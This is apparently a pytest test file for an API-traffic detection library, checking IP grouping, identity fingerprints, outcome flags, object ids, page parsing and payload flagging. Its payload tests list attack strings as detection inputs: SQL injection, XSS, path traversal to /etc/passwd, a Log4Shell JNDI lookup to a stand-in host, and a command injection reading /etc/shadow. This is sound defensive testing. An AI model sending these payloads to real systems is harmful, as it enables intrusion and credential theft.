"""The detection frame: entity columns, object ids, pages and payload flags."""

from __future__ import annotations

import polars as pl
import pytest

from apisight.detect.features import build
from apisight.events import EVENT_SCHEMA, conform
from tests.detect.frames import events, features, fp, key_id


def one(**kw) -> dict:
    (row,) = features(events(1, **kw)).to_dicts()
    return row


# --- networks -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("ip", "net"), [
    ("203.0.113.77", "203.0.113.0/24"),
    ("81.2.69.142", "81.2.69.0/24"),
    ("2a00:1450:4001:80b::200e", "2a00:1450:4001:80b::/64"),
    ("2001:db8:aa:bb:cc:dd:ee:ff", "2001:db8:aa:bb::/64"),
    ("not-an-address", None),
    (None, None),
])
def test_ip_net(ip, net):
    assert one(client_ip=ip)["ip_net"] == net




@pytest.mark.parametrize("same", [
    pytest.param(("2001:db8::1", "2001:db8:0:0::2"), id="compressed"),
    pytest.param(("2a01:4f8:c17::9", "2a01:4f8:c17:0:1::1"), id="compressed-3-groups"),
    pytest.param(("2001:db8:1:2::5", "2001:0db8:0001:0002::6"), id="leading-zeros"),
    pytest.param(("2a00:1450:4001:80b::1", "2A00:1450:4001:80B::2"), id="upper-case"),
    pytest.param(("2a00:1450:4001:80b::1", "2a00:1450:4001:80b:ffff::2"), id="full-form"),
])
def test_addresses_of_one_ipv6_64_share_a_network(same):
    nets = features(events(2, client_ip=list(same)))["ip_net"].to_list()
    assert nets[0] is not None and nets[0] == nets[1]


def test_addresses_of_different_networks_differ():
    nets = features(events(3, client_ip=["203.0.113.1", "203.0.114.1", "2a00:1450:4001:80c::1"]))["ip_net"]
    assert nets.n_unique() == 3


# --- identities -----------------------------------------------------------------------------------------


def test_client_is_the_most_specific_identity():
    row = one(principal="alice", api_key="sk_live_0123456789abcdefghij")
    assert (row["client_kind"], row["client"]) == ("principal", "alice")
    row = one(api_key="sk_live_0123456789abcdefghij")
    assert (row["client_kind"], row["client"], row["api_key"]) == ("api_key", key_id("sk_live_0123456789abcdefghij"),
                                                                   key_id("sk_live_0123456789abcdefghij"))
    assert row["token"] is None  # an API key is not a bearer token
    row = one(client_ip="203.0.113.5")
    assert (row["client_kind"], row["client"]) == ("ip", "203.0.113.5")


def test_token_and_username_are_fingerprints():
    row = one(token="eyJhbGciOi.secret.sig", username="Bob@Example.com", method="POST", path="/v2/auth/login")
    assert row["token"] == fp("eyJhbGciOi.secret.sig")
    assert row["username"] == fp("bob@example.com")
    assert {"credential_fp", "login_fp", "api_key_id"}.isdisjoint(row)


def test_country_and_asn_from_the_offline_database():
    rows = features(events(2, client_ip=["81.2.69.142", "10.1.2.3"])).sort("client_ip").to_dicts()
    assert rows[0]["country"] is None  # a private address has no country
    assert rows[1]["country"] == "GB" and rows[1]["asn"]


@pytest.mark.parametrize(("status", "fail", "ok", "throttled", "client_error", "server_error"), [
    (200, False, True, False, False, False),
    (302, False, True, False, False, False),
    (401, True, False, False, True, False),
    (404, True, False, False, True, False),
    (429, False, False, True, True, False),
    (503, False, False, False, False, True),
])
def test_outcome_flags(status, fail, ok, throttled, client_error, server_error):
    row = one(status=status)
    assert (row["fail"], row["ok"], row["throttled"], row["client_error"], row["server_error"]) == (
        fail, ok, throttled, client_error, server_error)


# --- templates, roles and object ids --------------------------------------------------------------------


@pytest.mark.parametrize(("template", "path", "object_id"), [
    ("/v2/accounts/{accountId}", "/v2/accounts/12345", "12345"),
    ("/v2/accounts/{accountId}/transactions", "/v2/accounts/GB29NWBK60161331926819/transactions",
     "GB29NWBK60161331926819"),
    ("/v2/customers/{customerId}/accounts/{accountId}", "/v2/customers/77/accounts/9f1c-aa", "9f1c-aa"),
    ("/v2/accounts", "/v2/accounts", None),
    ("/v2/accounts/{accountId}/cards/{cardId}", "/v2/accounts/1", None),  # shorter than its template
])
def test_object_id_is_taken_at_the_templates_parameter(template, path, object_id):
    row = one(path=path, template=template)
    assert (row["template"], row["object_id"]) == (template, object_id)


def test_role_comes_with_the_template_and_defaults_to_other():
    assert one(method="POST", path="/v2/payments")["role"] == "payment"
    assert one(path="/v2/accounts/1", template="/v2/accounts/{accountId}")["role"] == "object_read"
    # an endpoint discovery has not templated yet: its path stands for the template, its role is unknown
    frame = conform(events(1, path="/v2/accounts/1"), EVENT_SCHEMA)
    nothing = pl.DataFrame(schema={c: pl.String for c in ("host", "method", "path", "template", "role")})
    (row,) = build(frame, nothing, nothing).to_dicts()
    assert (row["template"], row["role"], row["object_id"]) == ("/v2/accounts/1", "other", None)


# --- pages ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "page"), [
    ("page=3", "3"),
    ("size=20&page=7", "7"),
    ("per_page=50&page=2", "2"),
    ("page[number]=4&page[size]=10", "4"),
    ("page%5Bnumber%5D=5", "5"),
    ("offset=40&limit=20", "40"),
    ("skip=100", "100"),
    ("cursor=eyJpZCI6NDJ9", "eyJpZCI6NDJ9"),
    ("after=c2Vx", "c2Vx"),
    ("PAGE=9", "9"),
    ("homepage=7", None),
    ("pages=7", None),
    ("sort=-created_at", None),
    (None, None),
])
def test_page(query, page):
    assert one(query=query)["page"] == page


# --- payloads -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("path", "query"), [
    ("/v2/search", "q=1' OR 1=1"),
    ("/v2/search", "q=1%27%20OR%201=1"),
    ("/v2/search", "q=x%27+or+%271%27=%271"),
    ("/v2/search", "q=1 UNION SELECT password FROM users"),
    ("/v2/search", "q=1%20union%20select%20null"),
    ("/v2/search", "q=<script>alert(1)</script>"),
    ("/v2/search", "q=%3Cscript%3Ealert(1)"),
    ("/v2/files/../../etc/passwd", None),
    ("/v2/files/%2e%2e/%2e%2e/etc/passwd", None),
    ("/v2/files/..%2f..%2fsecret", None),
    ("/v2/search", "q=${jndi:ldap://evil.example/a}"),
    ("/v2/search", "q=%24%7bjndi:ldap://evil.example/a%7d"),
    ("/v2/search", "q=1;sleep(5)"),
    ("/v2/search", "q=1 and benchmark(1000000,md5(1))"),
    ("/v2/search", "q=x%00.jpg"),
    ("/v2/search", "q={{7*7}}"),
    ("/v2/search", "q=%7b%7b7*7%7d%7d"),
    ("/v2/search", "q=a; cat /etc/shadow"),
    ("/v2/search", "q=1 -- "),
])
def test_payloads_are_flagged(path, query):
    assert one(path=path, query=query)["payload"] is True




@pytest.mark.parametrize(("path", "query"), [
    ("/v2/search", "q=rock and roll"),
    ("/v2/customers", "name=O%27Brien"),
    ("/v2/transactions", "from=2024-01-01&to=2024-01-31&sort=-booked_at"),
    ("/v2/customers", "email=a.b%40example.com"),
    ("/v2/search", "q=select a card"),
    ("/v2/accounts/GB29NWBK60161331926819", None),
    ("/v2/files/report.v2.pdf", None),
    ("/v2/catalog", "category=books;cat2=film"),
    pytest.param("/v2/customers", "name=D%27Andrea", id="apostrophe-and"),
    pytest.param("/v2/search", "q=%22organic%22", id="quoted-or-word"),
    pytest.param("/odata/Orders", "$filter=Status eq 'Open' and Amount gt 5", id="odata"),
    pytest.param("/scim/v2/Users", 'filter=userType eq "Employee" and active eq true',
                 id="scim"),
])
def test_ordinary_values_are_not_payloads(path, query):
    assert one(path=path, query=query)["payload"] is False


def test_a_comment_at_the_end_of_the_path_is_a_payload():
    assert one(path="/v2/accounts/1--", template="/v2/accounts/{accountId}")["payload"] is True


def test_a_comment_at_the_end_of_the_query_is_a_payload():
    assert one(path="/v2/accounts", query="id=1--")["payload"] is True
